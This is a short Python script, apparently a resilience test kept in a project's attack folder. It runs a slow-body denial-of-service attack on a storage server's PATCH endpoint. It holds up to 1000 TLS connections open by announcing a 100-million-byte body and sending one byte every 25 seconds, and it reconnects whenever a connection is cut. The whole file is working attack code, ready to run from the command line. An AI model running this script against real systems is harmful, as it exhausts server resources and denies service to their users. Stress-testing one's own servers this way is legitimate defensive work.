"""Requests that will be refused, and whose bodies are announced as long and come a byte at a time."""

from __future__ import annotations

import contextlib
import socket
import time

from misc.attack.target import Target, again_and_again, from_command_line, refused_or_cut

CONNECTIONS = 1000
BYTE_S = 25.0
REQUEST = (
    b"PATCH /storage/v1/immutable/aaaaaaaaaaaaaaaaaaaaaaaaaa/0 HTTP/1.1\r\nHost: x\r\n"
    b"Content-Length: 100000000\r\nContent-Range: bytes 0-99999999/*\r\n\r\n"
)


def attack(target: Target) -> None:
    """Keep as many connections as there may be, and make new ones for those that were cut."""
    open_sockets: dict[socket.socket, float] = {}
    with contextlib.ExitStack() as stack:
        for _ in again_and_again(target, 0.002):
            if len(open_sockets) < CONNECTIONS:
                with refused_or_cut():
                    connection = stack.enter_context(target.connect_tls())
                    connection.sendall(REQUEST)
                    open_sockets[connection] = time.monotonic()
            now_s = time.monotonic()
            due = [one for one, sent_s in open_sockets.items() if now_s - sent_s > BYTE_S]
            for each in due:
                del open_sockets[each]
                with refused_or_cut():
                    each.sendall(b"x")
                    open_sockets[each] = now_s


if __name__ == "__main__":
    attack(from_command_line(__doc__))
